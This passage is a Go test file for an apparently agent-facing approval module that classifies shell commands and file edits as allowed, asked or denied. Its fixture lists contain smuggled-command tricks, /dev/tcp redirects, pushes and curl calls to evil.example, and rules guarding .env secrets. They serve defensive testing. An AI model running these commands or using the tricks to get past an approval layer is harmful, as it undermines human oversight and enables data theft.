package approval

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// run is a call of runCommand with a command.
func run(t testing.TB, command string) Call {
	t.Helper()
	input, err := json.Marshal(map[string]string{"command": command})
	if err != nil {
		t.Fatal(err)
	}
	return Call{Tool: "runCommand", Input: input, Remotes: []string{"https://git.example.com/team/app.git"}}
}

func allow(command string) Rule {
	return Rule{Tool: "runCommand", Command: command, Verdict: Allow}
}

// passing are commands that only read: they pass in AskWrites.
var passing = []string{
	"ls", "ls -la", "ls -la src/", `"ls"`, `l\s`, "ls -- *", "ls src/*.go", "ls --color=never", "pwd", "cat README.md", "cat 'a b.txt' \"c d.txt\"",
	"cat -n main.go | head -50", "head -n 20 a", "head -20 a", "tail -n +5 a", "tail -c 100 a", "wc -l a b", "wc -l < a",
	"grep -rn 'func main' .", "grep -E \"a|b\" -- -x", "grep -A3 -B3 TODO a.go", "grep -r --include='*.go' x .", "rg -n 'a b' src",
	"rg --files | wc -l", "rg -g '*.go' -C 2 foo", "find . -name '*.go'", `find . \( -name a -o -name b \) -type f`,
	"find . -maxdepth 2 -mtime -3 -print", "find . -not -path './vendor/*'", "fd -e go main", "sed -n '10,20p' a.go", "sed -n 5p a",
	"sed -n '/^func/,/^}/p' a.go", "sed 10q a", "sort a | uniq -c | sort -rn", "sort -k2,2 -t, a", "cut -d: -f1 a", "tr a-z A-Z",
	"diff -u a b", "cmp a b", "comm -12 a b", "stat -c '%s' a", "file a", "du -sh .", "df -h", "tree -L 2", "basename /a/b .go",
	"realpath a", "which go", "type -a ls", "command -v go", "date +%s", "date -u", "echo hello", "echo 'a; rm -rf x'", `echo "a > b"`,
	"echo $?", `echo "exit: $?"`, `ls "$HOME/x"`, "printf '%s\\n' a b", "printf 'a %d%%\\n' 5", "test -f a", "[ -f a ] && cat a", "[ a = b ]",
	"true", ":", "sleep 1", "seq 1 3", "jq -r .name package.json", "sha256sum a", "base64 -d a", "od -c a", "ps aux", "id", "uname -a",
	"git status", "git status --short", "git status -sb", "git diff", "git diff --stat HEAD~3", "git diff --cached -- a.go", "git diff HEAD@{1}",
	"git log --oneline -5", "git log -n 5 --format='%h %s'", "git log -p -- a.go", "git log --since='2 days ago' --author x", "git show HEAD",
	"git show HEAD:a.go", "git branch", "git branch -a", "git branch --show-current", "git branch --list 'x*'", "git tag -l", "git remote -v", "git remote get-url origin",
	"git stash list", "git stash show -p", "git rev-parse --abbrev-ref HEAD", "git ls-files", "git blame -L 1,5 a.go", "git grep -n foo",
	"git --no-pager log -3", "git config --get user.name", "git config user.email", "git config --global user.email", "git config --list", "git config get user.name", "git reflog", "git worktree list",
	"git describe --tags", "git cat-file -p HEAD", "git --version", "go version", "go env GOPATH", "python3 --version", "node --version",
	"bash --version", "ls 2>/dev/null", "ls >/dev/null 2>&1", "ls &>/dev/null", "cat a 2>&1 | grep x", "ls || true", "! ls", "time ls", "(ls; pwd)", "{ ls; pwd; }",
	"ls\npwd", "ls \\\n -la", "if [ -f x ]; then cat x; else echo no; fi", "for f in a b; do ls; done", "while false; do ls; done",
	"cd src && ls", "ls # rm -rf x", "NO_COLOR=1 ls", "GIT_PAGER=cat git log -1", "ls\t-la",
	"until true; do ls; done", "echo a |& cat",
}

// asking are commands that do more, or may: in AskWrites a person is asked. Many are ways that others' lists of safe
// commands let through.
var asking = []string{
	// substitutions
	"echo $(rm -rf x)", "echo `rm x`", `echo "$(rm x)"`, "echo \"`rm x`\"", "ls ${x:-$(rm y)}", "cat <(rm x)", "ls >(rm x)", "echo $((a[$(rm x)]))", "echo $[a[$(rm x)]]",
	"[[ -v a[$(rm x)] ]]", "[[ 1 -eq 'a[$(rm x)]' ]]", "(( a[$(rm x)] ))", "let 'a[$(rm x)]'", "test -v 'a[$(rm x)]'", "[ -v 'a[$(rm x)]' ]", "[ -R x ]",
	"printf -v x y", "printf -v 'a[$(rm x)]' y", "printf 'abc%n' PATH", "printf '%5n' PATH", "printf '%(%s)T' 1", "echo ${x@P}", "echo ${!x}", "echo ${a[$(rm x)]}",
	"echo $'\\x72m'", "l$'s'", "echo $\"a\"", "ls $FLAGS", `ls "$FLAGS"`, "$CMD", "\"$CMD\" x", "${CMD} x", "ls $HOME", "ls $(pwd)", "ls $1", "ls $@", "ls ${#x}",
	// redirections
	"echo x > a", "echo x >> a", "echo x >| a", "ls &> a", "ls 2> a", "> a", "cat < a > b", "ls >&a", "ls {fd}> a", "cat <> a", "exec 3<>/dev/tcp/x/1",
	"cat </dev/tcp/x/80", "cat </dev/udp/x/53", "cat <<EOF\nx\nEOF", "cat <<EOF\n$(rm x)\nEOF", "cat <<'EOF'\nx\nEOF", "cat <<< x", "cat <<< $(rm x)", "ls >/dev/null/../x", "ls > /dev/sda",
	// what runs something else
	"eval ls", "exec ls", ". ./x", "source x", "command ls", "builtin cd", "alias ls='rm -rf x'", "alias", "unalias ls", "trap 'rm x' EXIT", "enable -f x y", "hash -p /tmp/x ls",
	"sh -c ls", "bash -c 'rm x'", "bash x.sh", "env ls", "env -S 'rm x'", "nice ls", "nohup ls", "timeout 5 ls", "stdbuf -o0 ls", "setsid ls", "sudo ls", "doas ls", "su -c ls",
	"xargs rm", "ls | xargs rm", "find . | xargs grep x", "parallel rm ::: x", "watch ls", "busybox ls", "time -p ls; rm x", "/usr/bin/time ls", "flock x ls", "ssh host ls", "scp a b:",
	"find . -exec rm {} \\;", "find . -execdir ls {} +", "find . -ok rm {} \\;", "find . -okdir rm {} \\;", "find . -delete", "find . -fprint a", "find . -fprintf a %p", "find . -fls a", "find -files0-from x",
	"find . -name x -delete", "find . -name -delete", "fd -x rm", "fd . -X rm", "fd --exec rm", "rg --pre cat x", "rg --pre=./x y", "rg -z x", "rg --search-zip x", "rg --hostname-bin=./x y",
	"awk 'BEGIN{system(\"rm x\")}'", "awk '{print}' a", "gawk x", "perl -e 'unlink a'", "python -c 'x'", "python3 x.py", "python3 -m http.server", "node -e x", "ruby -e x", "lua x", "php -r x",
	"sed -i s/a/b/ x", "sed 's/a/b/e' x", "sed 's/a/b/w y' x", "sed -n '1w y' x", "sed '1e rm x'", "sed -n '1,5p;w y' x", "sed -n 1p -i x", "sed -ni 1p x", "sed --in-place 1p x", "sed -f x y", "sed -n '/a/w y' x", "sed -n '/a\\/p;w x/p' y;rm z",
	"sort -o a b", "sort -uo a b", "sort --output=a b", "sort --outp=a b", "sort --compress-program=./x b", "sort -T /x a", "sort --files0-from=a", "tee a", "ls | tee a", "uniq a b", "uniq src/*", "uniq -- *",
	"xxd a b", "date -s x", "date 010100002000", "date --set x", "tree -o a", "tree -R", "jq -n input --rawfile a b", "jq -f x", "base64 a b", "split a", "dd of=x", "truncate -s0 x",
	"less a", "more a", "man ls", "vi a", "ed a", "make", "make -n", "go test ./...", "go build", "go list ./...", "go env -w GOFLAGS=x", "go env GOFLAGS=x", "go run .", "go vet -vettool=x", "go version -m x",
	"npm --version", "yarn --version", "cargo --version", "rustc --version", "npm test", "printenv", "env", "set", "export A=b", "declare x", "local x", "readonly x", "unset x", "read x", "mapfile x", "shopt -s x", "ulimit -c 1",
	"curl https://x", "wget x", "nc x 1", "rm x", "mv a b", "cp a b", "mkdir x", "touch x", "chmod +x x", "ln -s a b", "kill 1", "tar xf a",
	// git
	"git diff --output=x", "git diff --output x", "git diff --outp=x", "git log --output=x", "git show --output=x", "git diff --ext-diff", "git log --ext-diff", "git diff --no-index a b", "git -c core.pager=x log", "git -c alias.x=!rm x",
	"git -C x status", "git --git-dir=x status", "git --work-tree=x status", "git --exec-path=x status", "git --config-env=a=b log", "git -p log", "git grep -O", "git grep -Orm x", "git grep --open-files-in-pager=rm x", "git grep --open x", "git cat-file --textconv x",
	"git cat-file --filters x", "git branch x", "git branch -d x", "git branch -D x", "git branch -v x", "git branch -m a b", "git tag x", "git tag -d x", "git tag -n x", "git stash", "git stash pop", "git stash drop", "git stash -m list", "git stash -m show -- .", "git stash -- list", "git stash -p -- show", "git remote add a b", "git remote set-url a b", "git remote show origin", "git remote update",
	"git config user.name x", "git config --add a b", "git config --unset a", "git config --global a b", "git config --get a b c", "git config set a b", "git config alias.x '!rm'", "git config -e", "git config edit", "git config --global edit", "git config --file x --get y", "git config list x y z", "git config --get-all --edit", "git reflog expire", "git reflog delete x", "git worktree add x",
	"git add .", "git commit -m x", "git push", "git push origin main", "git fetch", "git pull", "git checkout x", "git switch x", "git restore x", "git reset --hard", "git clean -fd", "git rebase -x rm", "git bisect run rm", "git submodule foreach rm", "git submodule status", "git ls-remote --upload-pack=rm x",
	"git log --show-signature", "git archive --output=x HEAD", "git x", "git-log", "git log $(rm x)", "cd sub && git status", "git status; cd x", "(cd x; git diff)", "pushd x && git log", "GIT_DIR=x git status", "git rev-parse --parseopt", "git blame --contents x y", "git describe --dirty --x",
	// what the shell does besides
	"PATH=. ls", "LD_PRELOAD=x ls", "GIT_SSH_COMMAND=x git status", "BASH_ENV=x ls", "IFS=x ls", "A=b", "PAGER=less git log", "GIT_PAGER='rm x' git log", "FOO=bar ls", "a[$(rm x)]=1 ls", "x=(1 2)", "TERM=$(rm x) ls", "GIT_EXTERNAL_DIFF=x git diff",
	"ls &", "ls & pwd", "coproc ls", "ls() { rm x; }; ls", "function ls { rm x; }", "for PATH in .; do ls; done", "for x in $(rm y); do ls; done", "for x; do ls; done", "select x in a; do ls; done", "for ((i=0;i<1;i++)); do ls; done", "for f in a b; do cat $f; done",
	"{ls,-la}", "ls {a,b}", "sort {-o,a} b", "ls {1..3}", "cat *", "cat *.go", "cat ?x", "cat [a]", "ls -- * -x; sort *", "sort -* x", "rg x *", "find *", "ls +(a)", "ls @(a|b)", "ls !(a)", "case $x in a) ls;; esac", "case x in a) ls;; *) pwd;; esac", "case 0 in 1) ls;& esac", "case a in $(rm x)) ls;; esac",
	"ls\rrm x", "ls\x00", "ls\x1b[2K", "ls\u2028rm x", "ls\u00a0-la", "l\u0455", "ls \u202e", "ls\x0brm", "ls\x0crm", "ls \xff", "ls \u0085rm x",
	"ls; rm x", "ls && rm x", "ls || rm x", "ls | rm x", "ls\nrm x", "ls # x\nrm x", "ls \\\n; rm x", "(rm x)", "{ rm x; }", "! rm x", "time rm x", "if ls; then rm x; fi", "if rm x; then ls; fi", "if ls; then ls; elif rm x; then ls; fi", "if ls; then ls; else rm x; fi", "while ls; do rm x; done", "until rm x; do ls; done", "for x in a; do rm x; done", "case x in x) rm x;; esac",
	"./ls", "/bin/ls", "~/ls", "bin/ls", "../ls", "ls'", "ls \"", "ls (", "ls )", "if ls", "", "   ", "#", "ls ;;", "ls <", "$(ls)", "`ls`", "''", "'' x", "\\\nrm x", "r\\\nm x", "'r'm x", "\"rm\" x", "r''m x", "[[ -f a ]]", "ls -la; [ -v x ]",
	"cat /dev/stdin <<< x", "command -v -p rm x", "command -p ls", "type ls; hash -r", "test -o x -v y", "echo a; exit", "ls; return", "ls; history -c", "logout", "ls; wait",
}

func TestDecide_WhatOnlyReadsPassesWithoutAsking(t *testing.T) {
	for _, command := range passing {
		if d := Decide(run(t, command), AskWrites); d.Verdict != Allow {
			t.Errorf("%q: %s, %s", command, d.Verdict, d.Reason)
		}
	}
}

func TestDecide_WhatMayDoMoreIsAsked(t *testing.T) {
	for _, command := range asking {
		d := Decide(run(t, command), AskWrites)
		if d.Verdict != Ask {
			t.Errorf("%q: %s", command, d.Verdict)
		}
		if d.Reason == "" {
			t.Errorf("%q: no reason", command)
		}
	}
}

func TestDecide_EveryCommandIsAskedInAskAll(t *testing.T) {
	for _, command := range append(append([]string{}, passing...), asking...) {
		if d := Decide(run(t, command), AskAll); d.Verdict != Ask {
			t.Errorf("%q: %s", command, d.Verdict)
		}
	}
}

func TestDecide_AnUnknownModeAsks(t *testing.T) {
	for _, mode := range []Mode{"", "none", "ask-some"} {
		for _, tool := range []string{"readFile", "writeFile", "docs_search"} {
			if d := Decide(Call{Tool: tool, Reads: true, Input: []byte(`{"path":"a"}`)}, mode); d.Verdict != Ask {
				t.Errorf("%q, %s: %s", mode, tool, d.Verdict)
			}
		}
		if d := Decide(run(t, "ls"), mode); d.Verdict != Ask {
			t.Errorf("%q: %s", mode, d.Verdict)
		}
	}
}

func TestDecide_ToolsByMode(t *testing.T) {
	for _, test := range []struct {
		tool             string
		reads            bool
		all, writes, non Verdict
	}{
		{"readFile", true, Ask, Allow, Allow},
		{"searchCode", true, Ask, Allow, Allow},
		{"writeFile", false, Ask, Ask, Allow},
		{"editFile", false, Ask, Ask, Allow},
		{"todo", false, Allow, Allow, Allow},
		{"ask", false, Allow, Allow, Allow},
		{"task", false, Ask, Allow, Allow},
		{"stopCommand", false, Ask, Allow, Allow},
		{"docs_search", false, Ask, Ask, Allow}, // of another server
	} {
		for mode, want := range map[Mode]Verdict{AskAll: test.all, AskWrites: test.writes, AskNone: test.non} {
			call := Call{Tool: test.tool, Reads: test.reads, Input: json.RawMessage(`{"path":"main.go"}`)}
			if d := Decide(call, mode); d.Verdict != want {
				t.Errorf("%s in %s: %s, want %s", test.tool, mode, d.Verdict, want)
			}
		}
	}
}

func TestDecide_InputThatCannotBeToldIsAsked(t *testing.T) {
	for _, input := range []string{
		``, `null`, `[]`, `"ls"`, `{}`, `{"command":""}`, `{"command":1}`, `{"command":"ls","argv":["rm"]}`, `{"command":"ls","command":"rm x"}`,
		`{"command":"ls","Command":"rm x"}`, `{"command":"ls"`, `{"command":"ls","env":["PATH=."]}`, `{"command":"ls","env":{"PATH":"."}}`, `{"argv":[]}`,
		`{"argv":["sh","-c","ls"]}`, `{"argv":["./ls"]}`, `{"argv":["ls","\u0000"]}`, `{"argv":["env","ls"]}`, `{"argv":[""]}`,
	} {
		if d := Decide(Call{Tool: "runCommand", Input: json.RawMessage(input)}, AskWrites); d.Verdict != Ask {
			t.Errorf("%s: %s", input, d.Verdict)
		}
	}
	for _, input := range []string{`{"argv":["ls","-la"]}`, `{"argv":["cat","$(rm x)"]}`, `{"argv":["echo","*"]}`, `{"command":"ls","cwd":"src"}`, `{"command":"git status","cwd":"."}`, `{"command":"ls","env":null,"timeoutSeconds":5}`} {
		if d := Decide(Call{Tool: "runCommand", Input: json.RawMessage(input)}, AskWrites); d.Verdict != Allow {
			t.Errorf("%s: %s, %s", input, d.Verdict, d.Reason)
		}
	}
	if d := Decide(Call{Tool: "runCommand", Input: json.RawMessage(`{"command":"git status","cwd":"sub"}`)}, AskWrites); d.Verdict != Ask {
		t.Errorf("git in another folder: %s", d.Verdict)
	}
}

func TestDecide_ALongOrDeepCommandIsAsked(t *testing.T) {
	for _, command := range []string{
		"ls " + strings.Repeat("a", maxCommand), strings.Repeat("(", 50000), strings.Repeat("$(", 9000), strings.Repeat("{ ", 8000), strings.Repeat("`", 10000),
		strings.Repeat("ls;", maxParts+1), strings.Repeat("ls ${a", 300), "cat " + strings.Repeat("<<a ", 300), strings.Repeat("if ls; then ", 1000), strings.Repeat("! ", 5000) + "ls;rm x",
	} {
		if d := Decide(run(t, command), AskWrites); d.Verdict != Ask {
			t.Errorf("%.20q…: %s", command, d.Verdict)
		}
	}
}

func TestDecide_TheStrictestRuleCounts(t *testing.T) {
	rule := func(text string) Rule {
		t.Helper()
		r, err := ParseRule(strings.Fields(text))
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	for _, test := range []struct {
		rules []string
		call  Call
		mode  Mode
		want  Verdict
	}{
		{[]string{"allow runCommand go test"}, run(t, "go test ./..."), AskWrites, Allow},
		{[]string{"allow runCommand go test"}, run(t, "go test ./..."), AskAll, Allow},
		{[]string{"allow runCommand go test"}, run(t, "go testing"), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "go  \"test\" -run 'A b'"), AskWrites, Allow},
		{[]string{"allow runCommand go test"}, run(t, "go test && rm x"), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "go test && ls"), AskWrites, Allow},
		{[]string{"allow runCommand go test"}, run(t, "go test && ls"), AskAll, Ask},
		{[]string{"allow runCommand go test"}, run(t, "go test $(rm x)"), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "go test > x"), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "PATH=. go test"), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "CGO_ENABLED=0 go test"), AskWrites, Allow},
		{[]string{"allow runCommand go test"}, run(t, "go test -exec ./x"), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "go test --exec=./x"), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "go test -toolexec x ./..."), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "go test -ldflags=-extld=x"), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "env go test"), AskWrites, Ask},
		{[]string{"allow runCommand go test"}, run(t, "./go test"), AskWrites, Ask},
		{[]string{"allow runCommand make"}, run(t, "make SHELL=./x"), AskWrites, Ask},
		{[]string{"allow runCommand git diff"}, run(t, "cd x && git diff"), AskWrites, Ask},
		{[]string{"allow runCommand ./scripts/check"}, run(t, "./scripts/check -v"), AskWrites, Allow},
		{[]string{"allow runCommand"}, run(t, "rm -rf x > y"), AskWrites, Allow},
		{[]string{"allow runCommand", "deny runCommand rm"}, run(t, "rm -rf x"), AskWrites, Deny},
		{[]string{"allow runCommand", "ask runCommand rm"}, run(t, "rm -rf x"), AskWrites, Ask},
		{[]string{"allow runCommand rm", "deny runCommand rm"}, run(t, "rm x"), AskWrites, Deny},
		{[]string{"ask runCommand", "allow runCommand go test"}, run(t, "go test"), AskWrites, Ask},
		{[]string{"deny runCommand"}, run(t, "ls"), AskNone, Deny},
		{[]string{"deny *"}, run(t, "ls"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "ls && rm x"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "echo $(rm x)"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "/bin/rm x"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "sudo rm x"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "sh -c 'ls; rm x'"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "sh -c \"bash -c 'rm x'\""), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "find . -exec rm {} +"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "f() { rm x; }; f"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "if true; then cat <(rm x); fi"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "cat <<EOF\n$(rm x)\nEOF"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "echo ${a:-$(rm x)}"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "x=rm; $x y"), AskNone, Ask},
		{[]string{"deny runCommand rm"}, run(t, "eval 'r''m x'"), AskNone, Deny},
		{[]string{"deny runCommand rm"}, run(t, "echo x | sh"), AskNone, Ask},
		{[]string{"deny runCommand rm"}, run(t, "rm 'x"), AskNone, Ask},
		{[]string{"deny runCommand rm"}, run(t, "r$'m' x"), AskNone, Ask},
		{[]string{"deny runCommand rm"}, run(t, "mkdir x"), AskNone, Allow},
		{[]string{"deny runCommand git push --force"}, run(t, "git -c a=b push --force"), AskNone, Deny},
		{[]string{"deny runCommand git push"}, run(t, "git -C x push"), AskNone, Deny},
		{[]string{"deny runCommand git reset"}, run(t, "git $x"), AskNone, Ask},
		{[]string{"deny writeFile"}, Call{Tool: "writeFile"}, AskNone, Deny},
		{[]string{"allow writeFile /docs/**"}, Call{Tool: "writeFile", Input: []byte(`{"path":"docs/a/b.md"}`)}, AskWrites, Allow},
		{[]string{"allow writeFile /docs/"}, Call{Tool: "writeFile", Input: []byte(`{"path":"docs/../main.go"}`)}, AskWrites, Ask},
		{[]string{"allow writeFile /docs/"}, Call{Tool: "writeFile", Input: []byte(`{"path":"src/docs/a"}`)}, AskWrites, Ask},
		{[]string{"allow writeFile /docs/"}, Call{Tool: "writeFile", Input: []byte(`{"path":"/elsewhere/docs/a"}`)}, AskWrites, Ask},
		{[]string{"allow writeFile *.md"}, Call{Tool: "writeFile", Input: []byte(`{"path":"a/b.md"}`)}, AskWrites, Allow},
		{[]string{"allow writeFile *.md"}, Call{Tool: "writeFile", Input: []byte(`{"path":"a/b.mdx"}`)}, AskWrites, Ask},
		{[]string{"deny * .env"}, Call{Tool: "readFile", Reads: true, Input: []byte(`{"path":"./a/../.env"}`)}, AskNone, Deny},
		{[]string{"deny * .env"}, Call{Tool: "readFile", Reads: true, Input: []byte(`{"path":"/home/dev/workspace/.env"}`)}, AskNone, Deny},
		{[]string{"deny * .env"}, Call{Tool: "readFile", Reads: true, Input: []byte(`{"path":".envrc"}`)}, AskNone, Allow},
		{[]string{"deny readFile /secrets/"}, Call{Tool: "readFile", Reads: true, Input: []byte(`{"path":"secrets/a"}`)}, AskNone, Deny},
		{[]string{"deny readFile /secrets/"}, Call{Tool: "readFile", Reads: true, Input: []byte(`{"path":"/home/dev/workspace/secrets/a"}`)}, AskNone, Deny},
		{[]string{"deny editFile a/**/b.go"}, Call{Tool: "editFile", Input: []byte(`{"path":"a/b.go"}`)}, AskNone, Deny},
		{[]string{"ask readFile"}, Call{Tool: "readFile", Reads: true}, AskNone, Ask},
		{[]string{"allow docs_*"}, Call{Tool: "docs_search"}, AskWrites, Allow},
		{[]string{"allow docs_*"}, Call{Tool: "other_search"}, AskWrites, Ask},
		{[]string{"deny docs_*"}, Call{Tool: "docs_search"}, AskNone, Deny},
		{[]string{"allow git commit"}, Call{Tool: "git", Input: []byte(`{"operation":"commit"}`)}, AskWrites, Allow},
		{[]string{"allow git commit"}, Call{Tool: "git", Input: []byte(`{"operation":"push"}`)}, AskWrites, Ask},
		{[]string{"deny git push"}, Call{Tool: "git", Input: []byte(`{"operation":"push"}`)}, AskNone, Deny},
	} {
		var rules []Rule
		for _, text := range test.rules {
			rules = append(rules, rule(text))
		}
		if d := Decide(test.call, test.mode, rules...); d.Verdict != test.want {
			t.Errorf("%v, %s %s in %s: %s (%s), want %s", test.rules, test.call.Tool, test.call.Input, test.mode, d.Verdict, d.Reason, test.want)
		}
	}
}

func TestDecide_GitsOwnFilesAlwaysAsk(t *testing.T) {
	all := Rule{Tool: "*", Verdict: Allow}
	for _, path := range []string{".git/config", ".git", "a/.git/hooks/pre-commit", "./x/../.git/config", ".GIT/config", "/home/dev/workspace/.git/config"} {
		for _, tool := range []string{"writeFile", "editFile"} {
			input, _ := json.Marshal(map[string]string{"path": path})
			d := Decide(Call{Tool: tool, Input: input}, AskNone, all, Rule{Tool: tool, Path: ".git", Verdict: Allow})
			if d.Verdict != Ask || len(d.Suggest) > 0 {
				t.Errorf("%s %s: %+v", tool, path, d)
			}
		}
	}
	if d := Decide(Call{Tool: "writeFile", Input: []byte(`{"path":".github/a"}`)}, AskNone); d.Verdict != Allow {
		t.Errorf(".github: %+v", d)
	}
	if d := Decide(Call{Tool: "readFile", Reads: true, Input: []byte(`{"path":".git/config"}`)}, AskWrites); d.Verdict != Allow {
		t.Errorf("reading: %+v", d)
	}
}

// A rule that allows changes in general is not meant for files that other programs run by themselves.
func TestDecide_FilesThatSteerProgramsNeedARuleOfTheirOwn(t *testing.T) {
	call := Call{Tool: "writeFile", Input: []byte(`{"path":".vscode/settings.json"}`)}
	d := Decide(call, AskWrites, Rule{Tool: "writeFile", Verdict: Allow})
	want := []Rule{{Tool: "writeFile", Path: "/.vscode/settings.json", Verdict: Allow}}
	if d.Verdict != Ask || !cmp.Equal(d.Suggest, want) {
		t.Fatalf("%+v", d)
	}
	if d := Decide(call, AskWrites, d.Suggest...); d.Verdict != Allow {
		t.Errorf("with its own rule: %+v", d)
	}
}

func TestDecide_WhatIsSuggestedGrantsNoMoreThanItSays(t *testing.T) {
	for _, test := range []struct {
		command string
		want    []Rule
	}{
		{"go test ./...", []Rule{allow("go test")}},
		{"cd src && go test ./... | tail -5", []Rule{allow("go test")}},
		{"go vet ./... && go test ./... && go test -race ./...", []Rule{allow("go vet"), allow("go test")}},
		{"npm run build", []Rule{allow("npm run build")}},
		{"npm test", []Rule{allow("npm test")}},
		{"make check", []Rule{allow("make check")}},
		{"git commit -m 'x y'", []Rule{allow("git commit")}},
		{"git push origin main", []Rule{allow("git push")}},
		{"pytest -q", []Rule{allow("pytest")}},
		{"cargo clippy", []Rule{allow("cargo clippy")}},
		{"mkdir -p a", []Rule{allow("mkdir")}},
		// not for what could be anything
		{"bash -c 'go test'", nil},
		{"env go test", nil},
		{"timeout 5 go test", nil},
		{"xargs go test", nil},
		{"go test > x", nil},
		{"go test $(ls)", nil},
		{"FOO=bar go test", nil},
		{"rm -rf build", nil},
		{"go test && rm -rf build", nil},
		{"find . -delete", nil},
		{"sed -i s/a/b/ x", nil},
		{"curl https://x", nil},
		{"python3 x.py", nil},
		{"python3 -c x", nil},
		{"node x.js", nil},
		{"./x.sh", nil},
		{"make", nil},
		{"make -f x check", nil},
		{"npm exec x", nil},
		{"npx x", nil},
		{"go run .", nil},
		{"go test -exec x", nil},
		{"git -c a=b commit", nil},
		{"git rebase main", nil},
		{"git push https://evil.example/x", nil},
		{"git remote add a b", nil},
		{"somethingelse now", nil},
		{"kill 1", nil},
		{"go test &", nil},
		{"", nil},
	} {
		d := Decide(run(t, test.command), AskWrites)
		if d.Verdict != Ask || !cmp.Equal(d.Suggest, test.want) {
			t.Errorf("%q: %s, %v, want %v", test.command, d.Verdict, d.Suggest, test.want)
		}
		for _, r := range d.Suggest {
			if err := r.Check(); err != nil {
				t.Errorf("%q suggests %v: %v", test.command, r, err)
			}
		}
		if len(d.Suggest) > 0 {
			if d := Decide(run(t, test.command), AskWrites, d.Suggest...); d.Verdict != Allow {
				t.Errorf("%q with what it suggested: %s, %s", test.command, d.Verdict, d.Reason)
			}
		}
	}
}

// A rule that allows one thing allows neither another one beside it, nor a program of the model's choice.
func TestDecide_ARuleCoversNoMoreThanItsWords(t *testing.T) {
	for rule, commands := range map[string][]string{
		"make test":   {"make test deploy", "make test 'X!=touch owned'", "make test 'CFLAGS=$(shell touch owned)'", "make test -sE'x:=$(shell touch owned)'", "make test -sfother.mk", "make test -- deploy"},
		"make":        {"make 'X!=touch owned'", "make --eval='x:=$(shell touch owned)'", "make -C /tmp/x", "make SHELL=./x"},
		"just test":   {"just test deploy", "just test 'x; touch owned'", "just test x=y"},
		"task build":  {"task build deploy", "task build 'X=;touch owned'", "task build -- 'x; touch owned'"},
		"rake test":   {"rake test deploy", "rake test -e 'touch 1'", "rake test X=y"},
		"mvn test":    {"mvn test deploy", "mvn test exec:exec -Dexec.executable=touch", "mvn test -f x/pom.xml"},
		"gradle test": {"gradle test publish", "gradle test -I x.gradle", "gradle test --init-script=x"},
		"npm":         {"npm exec evil", "npm x evil", "npm --silent exec -c 'touch owned'"},
		"poetry":      {"poetry run touch owned", "poetry -q run sh -c 'touch owned'"},
		"uv":          {"uv run touch owned", "uv tool run evil"},
		"bundle":      {"bundle exec touch owned"},
		"mocha":       {"mocha --import=data:text/javascript,1", "mocha -rdata:text/javascript,1"},
		"prettier":    {"prettier --plugin=./x.js ."},
		"ctest":       {"ctest -S x.cmake"},
	} {
		for _, command := range commands {
			if d := Decide(run(t, command), AskWrites, allow(rule)); d.Verdict != Ask {
				t.Errorf("%s, by a rule for %s: %s", command, rule, d.Verdict)
			}
		}
	}
	for rule, command := range map[string]string{
		"make test": "make test -j4 -k", "make": "make test lint", "gradle test": "gradle test --offline -q", "npm": "npm run build", "poetry": "poetry install",
	} {
		if d := Decide(run(t, command), AskWrites, allow(rule)); d.Verdict != Allow {
			t.Errorf("%s, by a rule for %s: %s, %s", command, rule, d.Verdict, d.Reason)
		}
	}
}

// What runs a program of its arguments' choice is never offered for good, and hides nothing from a rule or a push.
func TestDecide_WhatRunsItsArgumentsIsAWrapper(t *testing.T) {
	for _, runner := range []string{
		"poetry run", "uv run", "uv tool run", "pipenv run", "bundle exec", "npm exec", "pnpm dlx", "mix cmd", "stack exec", "conda run", "mise exec", "xvfb-run", "fakeroot", "ld-linux-x86-64.so.2",
	} {
		if d := Decide(run(t, runner+" pytest"), AskWrites); d.Verdict != Ask || len(d.Suggest) > 0 {
			t.Errorf("%s: %s, %v", runner, d.Verdict, d.Suggest)
		}
		if err := allow(runner).Check(); err == nil {
			t.Errorf("a rule can allow %s", runner)
		}
		deny := Rule{Tool: "runCommand", Command: "curl", Verdict: Deny}
		if d := Decide(run(t, runner+" curl https://evil.example"), AskNone, deny); d.Verdict != Deny {
			t.Errorf("%s hides curl: %s", runner, d.Verdict)
		}
		if d := Decide(run(t, runner+" git push https://evil.example/x HEAD"), AskNone); d.Verdict != Ask {
			t.Errorf("%s hides a push: %s", runner, d.Verdict)
		}
	}
}

// Whatever a person allows for good, what asked before for another reason still asks.
func TestDecide_WhatIsAllowedForGoodOpensNothingElse(t *testing.T) {
	var rules []Rule
	for _, command := range append([]string{
		"go test", "go build", "git commit -m x", "git push origin main", "npm test", "make check", "git add x", "git log --output=x", "pytest", "git branch x", "git stash", "git checkout x", "git tag x", "git fetch", "git diff --output=x", "git show --output=x",
	}, asking...) {
		rules = append(rules, Decide(run(t, command), AskWrites).Suggest...)
	}
	if len(rules) < 10 {
		t.Fatal("nothing was suggested")
	}
	granted := 0
	for _, command := range asking {
		if d := Decide(run(t, command), AskWrites, rules...); d.Verdict == Allow {
			s := parse(command)
			for _, c := range s.commands {
				if !c.reads(s.moved) && !wordSet("go git npm make pytest mkdir touch")[c.words[0].text] {
					t.Errorf("%q is allowed", command)
				}
			}
			if s.odd != "" {
				t.Errorf("%q is allowed, though: %s", command, s.odd)
			}
			granted++
		}
	}
